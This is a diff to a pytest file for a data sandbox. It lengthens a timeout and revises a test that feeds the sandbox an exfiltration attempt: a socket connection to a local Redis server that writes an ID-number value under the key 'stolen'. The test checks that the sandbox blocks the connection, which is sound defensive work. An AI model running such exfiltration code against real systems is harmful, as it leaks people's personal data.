@@ -26,7 +26,8 @@ from shuniu.nodes.sandbox import sandbox_available, sandbox_pids, wait_sandboxes
 pytestmark = pytest.mark.skipif(not sandbox_available(), reason="bubblewrap cannot run here")
 
 LABEL_PREFIX = f"shuniu-sandbox-{os.getpid()}-"
-LIMITS = SandboxLimits(cpu_s=5, nproc=32, wall_timeout_s=8.0)
+# A wall clock for what leaves, not for time: it counts a cold start, which a loaded machine stretches.
+LIMITS = SandboxLimits(cpu_s=5, nproc=32, wall_timeout_s=30.0)
 POLICY = EgressPolicy(min_group_rows=5, max_rows=1000)
 SENSITIVE = ["legal_person_phone", "id_number", "amount_fen"]
 IDENTIFIERS = ["enterprise_id"]
@@ -92,13 +93,13 @@ def test_tcp_to_the_local_redis_fails(runner, redis_server):
     watcher = redis.Redis(port=redis_server.port, single_connection_client=True)
     before = watcher.info("stats")["total_connections_received"]
     outcome = _attack(runner, f"""
-        import socket
         def run(table):
             try:
+                import socket
                 with socket.create_connection(("127.0.0.1", {redis_server.port}), timeout=1) as conn:
                     conn.sendall(b"SET stolen " + str(table.column("id_number")[0]).encode() + b"\\r\\n")
                 return pa.table({{"seen": ["connected"]}})
-            except OSError as exc:
+            except Exception as exc:  # OSError; or ImportError, LookupError where the runtime lacks a module
                 return pa.table({{"seen": [type(exc).__name__]}})
     """)
     assert _seen(outcome) != "connected"
